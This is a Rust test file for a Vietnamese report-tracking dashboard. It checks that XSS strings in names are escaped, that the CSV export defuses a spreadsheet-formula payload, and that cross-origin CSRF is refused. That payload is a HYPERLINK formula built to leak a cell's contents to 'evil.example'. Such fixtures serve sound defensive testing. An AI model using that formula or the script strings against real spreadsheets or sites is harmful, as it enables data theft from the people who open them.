//! The pages that show state: the matrix and its filters, the CSV export,
//! the outbox and its retry button.

use super::*;
use hanbao::store::{Outbox, Records};

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_matrix_shows_states_filters_and_escapes_hostile_names() {
    let s = start().await;
    s.store
        .record_submission(
            NewSubmission {
                key: Key::new("bc-quy", "2026-Q1", "so-yte"),
                received_on: date(2026, 3, 19),
                received_at: None,
                reference: Some("12/BC-SYT <i>".into()),
                note: None,
                actor: "cli:test".into(),
                source: Source::Cli,
                correction: false,
            },
            Timestamp::now(),
        )
        .await
        .unwrap();
    let cookie = s.login(&s.admin).await;
    let r = s.get(Q1, Some(&cookie)).await;
    assert_eq!(r.status, 200, "{}", r.body);
    assert_eq!(cell_state(&r.body, "so-yte"), "submitted_on_time");
    assert!(r.body.contains("Đã nộp 19/03"));
    // 2026-Q1 was due 20/03/2026; the machine's clock is later than that.
    assert_eq!(cell_state(&r.body, "so-taichinh"), "overdue");
    assert!(r.body.contains("Quá hạn "));
    // Hostile names and titles are text, never markup.
    assert!(!r.body.contains("<script>alert"));
    assert!(!r.body.contains("<b>KT-XH"));
    assert!(r.body.contains(
        "Sở Tài chính &lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; &amp; &quot;B&quot;"
    ));
    assert!(r.body.contains("Báo cáo quý &lt;b&gt;KT-XH&lt;/b&gt;"));
    assert!(
        r.body
            .contains("href=\"/dashboard/export.csv?obligation=bc-quy&amp;period=2026-Q1\"")
    );
    // Filters: state, group.
    let r = s.get(&format!("{Q1}&status=overdue"), Some(&cookie)).await;
    assert_eq!(r.status, 200);
    assert!(!r.body.contains("c-so-yte-bc-quy-2026-Q1"));
    assert_eq!(cell_state(&r.body, "so-taichinh"), "overdue");
    assert!(r.body.contains("<option value=\"overdue\" selected>"));
    let r = s.get(&format!("{Q1}&group=khac"), Some(&cookie)).await;
    assert_eq!(r.status, 200);
    assert!(r.body.contains("Không có báo cáo nào phải theo dõi"));
    let r = s.get(&format!("{Q1}&group=so-nganh"), Some(&cookie)).await;
    assert!(r.body.contains("c-so-yte-bc-quy-2026-Q1"));
    // Bad filters: a Vietnamese message, 400.
    for (q, text) in [
        ("?group=nope", "Không có nhóm \"nope\""),
        ("?status=late", "Không có trạng thái \"late\""),
        ("?period=2026-Q5", "không đúng dạng"),
        ("?obligation=bc-qy", "có phải ý là"),
    ] {
        let r = s.get(&format!("/dashboard/matrix{q}"), Some(&cookie)).await;
        assert_eq!(r.status, 400, "{q}");
        let text = text.replace('"', "&quot;");
        assert!(r.body.contains(&text), "{q}: {}", r.body);
    }
    // The unit page: current periods and history, escaped.
    let r = s.get("/dashboard/units/so-yte", Some(&cookie)).await;
    assert_eq!(r.status, 200, "{}", r.body);
    assert!(r.body.contains("số văn bản 12/BC-SYT &lt;i&gt;"));
    assert!(r.body.contains("cli:test"));
    let r = s.get("/dashboard/units/so-taichinh", Some(&cookie)).await;
    assert_eq!(r.status, 200);
    assert!(!r.body.contains("<script>alert"));
    assert!(r.body.contains("Chưa có ghi nhận nào."));
    let r = s.get("/dashboard/units/so-yt", Some(&cookie)).await;
    assert_eq!(r.status, 404);
    assert!(r.body.contains("Không có đơn vị"));
    // A report that is not owed, a period that does not exist.
    for path in [
        "/dashboard/units/ubnd-tinh/bc-quy/2026-Q1",
        "/dashboard/units/so-yte/bc-quy/2026-Q7",
        "/dashboard/units/so-yte/bc-khac/2026-Q1",
    ] {
        let r = s.get(path, Some(&cookie)).await;
        assert_eq!(r.status, 404, "{path}");
    }
    s.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_export_is_hanbao_status_csv() {
    let s = start().await;
    let cookie = s.login(&s.admin).await;
    let r = s
        .get(
            "/dashboard/export.csv?obligation=bc-quy&period=2026-Q1",
            Some(&cookie),
        )
        .await;
    assert_eq!(r.status, 200);
    assert_eq!(r.header("content-type"), Some("text/csv; charset=utf-8"));
    assert!(
        r.header("content-disposition")
            .unwrap()
            .starts_with("attachment;")
    );
    assert!(
        r.bytes
            .starts_with("\u{feff}Nghĩa vụ,Tên nghĩa vụ,Kỳ".as_bytes())
    );
    assert!(r.body.contains("\r\n"));
    // Byte for byte what `hanbao status --csv` writes for the same rows.
    let live = s.state.live();
    let today = live.today(Timestamp::now());
    let rows = tracking::status(
        &s.store,
        &live.cfg,
        &live.cal,
        &Selection {
            obligation: Some("bc-quy".into()),
            period: Some("2026-Q1".into()),
            unit: None,
        },
        today,
    )
    .await
    .unwrap();
    assert_eq!(rows.len(), 2);
    assert_eq!(r.bytes, hanbao::tracking::csv(&rows));
    // Filters apply; bad ones are refused.
    let r = s
        .get(
            "/dashboard/export.csv?period=2026-Q1&status=waived",
            Some(&cookie),
        )
        .await;
    assert_eq!(r.body.lines().count(), 1, "header only: {}", r.body);
    let r = s.get("/dashboard/export.csv?group=x", Some(&cookie)).await;
    assert_eq!(r.status, 400);
    s.shutdown().await;
}

/// A document number that is a spreadsheet formula (stored through a unit
/// token, a confirmation link or an import) leaves the dashboard's export
/// as text; the hostile configuration names too.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_export_never_hands_a_spreadsheet_a_formula() {
    let s = start().await;
    let evil = r#"=HYPERLINK("http://evil.example/?leak="&A2,"Xem")"#;
    s.store
        .record_submission(
            NewSubmission {
                key: Key::new("bc-quy", "2026-Q1", "so-yte"),
                received_on: date(2026, 3, 19),
                received_at: None,
                reference: Some(evil.into()),
                note: None,
                actor: "token:2:Văn thư Sở Y tế".into(),
                source: Source::Api,
                correction: false,
            },
            Timestamp::now(),
        )
        .await
        .unwrap();
    let cookie = s.login(&s.admin).await;
    let r = s
        .get(
            "/dashboard/export.csv?obligation=bc-quy&period=2026-Q1",
            Some(&cookie),
        )
        .await;
    assert_eq!(r.status, 200);
    let text = std::str::from_utf8(&r.bytes[3..]).unwrap();
    let rows: Vec<Vec<String>> = ::csv::ReaderBuilder::new()
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    let yte = rows.iter().find(|r| r[3] == "so-yte").unwrap();
    assert_eq!(yte[11], format!("'{evil}"));
    for cell in rows.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{cell:?}"
        );
    }
    s.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn outbox_lists_failures_and_the_retry_button_puts_one_back() {
    let s = start().await;
    let t0 = Timestamp::from_second(1_700_000_000).unwrap();
    s.store
        .enqueue(
            vec![
                outbox_row("so-yte", "a@x.vn"),
                outbox_row("so-taichinh", "b@x.vn"),
            ],
            t0,
        )
        .await
        .unwrap();
    let claimed = s
        .store
        .claim("d", t0, Timestamp::from_second(1_700_000_900).unwrap(), 1)
        .await
        .unwrap();
    let failed = claimed[0].id;
    assert!(
        s.store
            .finish(
                failed,
                "d",
                Outcome::Failed {
                    error: "550 5.1.1 <a@x.vn>: no such user".into()
                },
                t0
            )
            .await
            .unwrap()
    );
    let cookie = s.login(&s.admin).await;
    let r = s.get("/dashboard/outbox", Some(&cookie)).await;
    assert_eq!(r.status, 200, "{}", r.body);
    assert!(r.body.contains("Gửi lỗi <span class=\"n\">(1)</span>"));
    assert!(r.body.contains("Chờ gửi <span class=\"n\">(1)</span>"));
    assert!(r.body.contains("550 5.1.1 &lt;a@x.vn&gt;: no such user"));
    let retry = format!("/dashboard/outbox/{failed}/retry");
    assert!(r.body.contains(&format!("action=\"{retry}\"")));
    let csrf = r.csrf();
    // Bad CSRF, cross-origin: refused, still failed.
    assert_eq!(
        s.post(&retry, Some(&cookie), &[("csrf", "nope")])
            .await
            .status,
        403
    );
    let r = send(
        s.addr,
        "POST",
        &retry,
        Some(&cookie),
        &[("Origin", "https://evil.example")],
        Some(&form(&[("csrf", &csrf)])),
    )
    .await;
    assert_eq!(r.status, 403);
    let status_of = |rows: Vec<store::OutboxRow>| {
        rows.into_iter()
            .find(|r| r.id == failed)
            .map(|r| r.status)
            .unwrap()
    };
    assert_eq!(
        status_of(s.store.outbox(None).await.unwrap()),
        OutboxStatus::Failed
    );
    // The button.
    let r = s.post(&retry, Some(&cookie), &[("csrf", &csrf)]).await;
    assert_eq!(r.status, 303);
    assert_eq!(r.header("location"), Some("/dashboard/outbox"));
    assert_eq!(
        status_of(s.store.outbox(None).await.unwrap()),
        OutboxStatus::Pending
    );
    let page = s.get("/dashboard/outbox", Some(&cookie)).await;
    assert!(
        page.body
            .contains(&format!("Thư #{failed} sẽ được gửi lại"))
    );
    assert!(page.body.contains("Gửi lỗi <span class=\"n\">(0)</span>"));
    assert!(page.body.contains("Chờ gửi <span class=\"n\">(2)</span>"));
    // Again: nothing to retry, said so.
    let r = s.post(&retry, Some(&cookie), &[("csrf", &csrf)]).await;
    assert_eq!(r.status, 303);
    let page = s.get("/dashboard/outbox", Some(&cookie)).await;
    assert!(page.body.contains("không còn ở trạng thái gửi lỗi"));
    let r = s
        .post(
            "/dashboard/outbox/abc/retry",
            Some(&cookie),
            &[("csrf", &csrf)],
        )
        .await;
    assert_eq!(r.status, 404);
    s.shutdown().await;
}

/// The mailbox page lists refused replies with their reason in words
/// (saying which were answered), hostile text escaped, and links the
/// report they were matched to; in Chromium it fits a desktop and a phone
/// (screenshots `mailbox.png`, `mailbox-phone.png`).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mailbox_lists_refused_replies_with_their_reason() {
    use hanbao::store::{Intake, IntakeMessage, IntakeOutcome, Key};
    let s = start().await;
    let message = |uid: u32, sender: &str, subject: &str| IntakeMessage {
        mailbox: "INBOX".into(),
        uid_validity: 7,
        uid,
        message_id: Some(format!("m{uid}@x.vn")),
        sender: sender.into(),
        subject: subject.into(),
        sent_at: None,
    };
    let now = Timestamp::now();
    for (uid, sender, subject, reason, key) in [
        (
            1,
            "ke-gia-mao@evil.example",
            "<script>x</script>",
            "unknown_sender",
            None,
        ),
        (
            2,
            "vanthu@soyte.example",
            "Re: Nhắc hạn",
            "no_attachment",
            Some(Key::new("bc-nam", "2026", "so-yte")),
        ),
        (
            3,
            "vanthu@soyte.example",
            "Re: [Nhắc hạn] Báo cáo năm 2026 (kèm tệp 30 MB)",
            "too_big",
            Some(Key::new("bc-nam", "2026", "so-yte")),
        ),
    ] {
        s.store
            .intake_write(
                &message(uid, sender, subject),
                &IntakeOutcome::Refused {
                    reason: reason.into(),
                    key,
                },
                now,
            )
            .await
            .unwrap();
    }
    let cookie = s.login(&s.admin).await;
    let r = s.get("/dashboard/mailbox", Some(&cookie)).await;
    assert_eq!(r.status, 200, "{}", r.body);
    assert!(
        r.body.contains("Chưa cấu hình hộp thư nhận báo cáo"),
        "{}",
        r.body
    );
    assert!(r.body.contains("3 thư bị từ chối"), "{}", r.body);
    assert!(
        r.body
            .contains("thư vượt quá dung lượng cho phép (đã báo lại cho đơn vị)")
    );
    assert!(
        r.body
            .contains("người gửi không phải hộp thư của đơn vị nào")
    );
    assert!(r.body.contains("thư không có tệp đính kèm"));
    assert!(r.body.contains("&lt;script&gt;x&lt;/script&gt;"));
    assert!(!r.body.contains("<script>x"));
    assert!(
        r.body
            .contains("href=\"/dashboard/units/so-yte/bc-nam/2026\""),
        "{}",
        r.body
    );
    assert_eq!(s.get("/dashboard/mailbox", None).await.status, 303);
    let base = format!("http://{}", s.addr);
    let admin = s.admin.clone();
    let shots = tokio::task::spawn_blocking(move || {
        let b = crate::support::browser::Browser::start();
        b.goto(&format!("{base}/dashboard/login"));
        let field = b.find("input[name=token]");
        b.type_text(&field, &admin);
        b.click(&b.find("form[action='/dashboard/login'] button[type=submit]"));
        b.wait_for_url("/dashboard");
        b.goto(&format!("{base}/dashboard/mailbox"));
        assert_eq!(b.count("table.outbox tbody tr"), 3);
        b.set_window(390, 844);
        let fits = b.script(
            "return document.documentElement.scrollWidth <= document.documentElement.clientWidth;",
        );
        assert_eq!(
            fits,
            serde_json::json!(true),
            "the mailbox page fits a phone"
        );
        super::browser::shots_at(&b, "mailbox", None)
    })
    .await
    .unwrap();
    let out = super::browser::e2e_dir();
    for (name, png) in &shots {
        std::fs::write(out.join(name), png).unwrap();
    }
    s.shutdown().await;
}
